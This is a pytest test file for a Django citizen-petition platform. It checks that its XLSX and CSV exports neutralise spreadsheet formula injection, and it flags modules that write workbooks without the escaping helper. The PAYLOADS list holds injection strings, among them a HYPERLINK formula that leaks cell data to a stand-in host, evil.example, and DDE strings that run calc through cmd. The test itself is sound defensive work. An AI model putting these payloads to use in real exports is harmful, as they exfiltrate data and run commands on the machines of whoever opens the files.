"""Formula injection: citizens' text that a spreadsheet would run (=HYPERLINK, +cmd, -1+1, @SUM …) is
inert in every XLSX/CSV the platform produces — the search export, the claim list (list.xlsx),
the monthly bulletin and the weekly digest — downloaded through their real pages. A second test
fails when a module writes a workbook or CSV without going through wenzheng.lib.spreadsheet."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from wenzheng.casework import actions
from wenzheng.casework.models import Case
from wenzheng.core import clock
from wenzheng.insight.metrics.rollup import rebuild
from wenzheng.insight.reports.tests.ledger import NOW, build_report_ledger
from wenzheng.lib.spreadsheet import FORMULA_ESCAPE, FORMULA_TRIGGERS
from wenzheng.testing.personas import World

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1 留言",
    "\r=1+1 留言",
]
PACKAGE = Path(__file__).resolve().parents[2]


def cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: data types are needed
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, where: str) -> int:
    """No formula cell and no string a spreadsheet would evaluate; returns the payload cells found."""
    found = 0
    for cell in cells(content):
        assert cell.data_type != "f", f"{where} {cell.coordinate}: a formula {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_TRIGGERS), f"{where} {cell.coordinate}: {cell.value!r}"
            if cell.value.startswith(FORMULA_ESCAPE) and any(
                p.replace("\r", "\n") in cell.value for p in PAYLOADS
            ):
                found += 1
    return found


@pytest.fixture
def hostile(world: World):
    """The reports' small ledger with every subject, contact name and a unit name set to payloads."""
    ledger = build_report_ledger(world)
    for n, case in enumerate(Case.objects.order_by("pk")):
        payload = PAYLOADS[n % len(PAYLOADS)]
        Case.objects.filter(pk=case.pk).update(subject=payload, contact_name=payload)
    world.district_b.name = "@SUM(1+1) 乙区"
    world.district_b.save()
    with clock.frozen_at(NOW):
        rebuild(world.city)
    return ledger


def download(client: Client, url: str, **params: str) -> bytes:
    with clock.frozen_at(NOW):
        response = client.get(url, params)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
    return response.content


def test_it_makes_every_payload_inert_in_every_export(world: World, hostile) -> None:
    supervisor = Client()
    supervisor.force_login(world.supervisor)
    dispatcher = Client()
    dispatcher.force_login(world.dispatcher)
    with clock.frozen_at(NOW):
        letter = actions.do_issue_assignment_letters([hostile.open], acting_user=world.dispatcher)[0]

    exports = {
        "search export": download(supervisor, reverse("workbench:search_export"), q=""),
        "claim list": download(dispatcher, reverse("workbench:letter", args=[letter.pk, "list.xlsx"])),
        "bulletin": download(
            supervisor,
            reverse("workbench:report_download", args=["bulletin.xlsx"]),
            org="T-C",
            month="2026-11",
        ),
        "digest": download(
            supervisor, reverse("workbench:report_download", args=["digest.xlsx"]), org="T-C", week="2026-W46"
        ),
    }

    for where, content in exports.items():
        # Each export really carried payloads (else this test would prove nothing about it) …
        assert assert_inert(content, where) >= 1, f"no payload reached the {where}"
    # … and the search export, which holds every case, carried each kind.
    texts = {c.value for c in cells(exports["search export"]) if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert FORMULA_ESCAPE + payload.replace("\r", "\n") in texts, payload


def test_it_makes_a_payload_inert_in_csv() -> None:
    from wenzheng.lib.spreadsheet import write_csv

    text = write_csv(["标题"], [[p] for p in PAYLOADS]).decode("utf-8-sig")
    lines = text.split("\r\n")[1:]
    for line in lines:
        if line:
            assert not line.lstrip('"').startswith(FORMULA_TRIGGERS), line


# Writers that bypass the escape: openpyxl's Workbook, the csv module's writers, pandas' exporters.
ESCAPES = {"safe_cell", "write_xlsx", "write_csv"}


def _writer_name(call: ast.Call) -> str | None:
    func = call.func
    if isinstance(func, ast.Name) and func.id == "Workbook":
        return "Workbook"
    if isinstance(func, ast.Attribute):
        owner = func.value.id if isinstance(func.value, ast.Name) else ""
        if func.attr in {"writer", "DictWriter"} and owner == "csv":
            return f"csv.{func.attr}"
        if func.attr in {"Workbook", "to_excel", "to_csv"}:
            return func.attr
    return None


def _writers_and_escapes(tree: ast.AST) -> tuple[set[str], set[str]]:
    writers: set[str] = set()
    escapes: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and (name := _writer_name(node)):
            writers.add(name)
        if isinstance(node, ast.ImportFrom) and node.module == "wenzheng.lib.spreadsheet":
            escapes |= {alias.name for alias in node.names} & ESCAPES
    return writers, escapes


def test_it_finds_no_spreadsheet_writer_outside_the_escaping_helpers() -> None:
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE.parent).as_posix()
        if "/tests/" in relative or "/migrations/" in relative or relative == "wenzheng/lib/spreadsheet.py":
            continue
        writers, escapes = _writers_and_escapes(ast.parse(path.read_text(encoding="utf-8")))
        if writers and not escapes:
            offenders.append(f"{relative}: {sorted(writers)}")
    assert offenders == [], (
        "write exports through wenzheng.lib.spreadsheet (safe_cell / write_xlsx / write_csv)"
    )


def test_it_would_catch_a_writer_that_bypasses_the_escape() -> None:
    bad = ast.parse("import csv\ndef export(rows, f):\n    csv.writer(f).writerows(rows)\n")
    good = ast.parse("from wenzheng.lib.spreadsheet import write_csv\n")
    assert _writers_and_escapes(bad) == ({"csv.writer"}, set())
    assert _writers_and_escapes(good) == (set(), {"write_csv"})
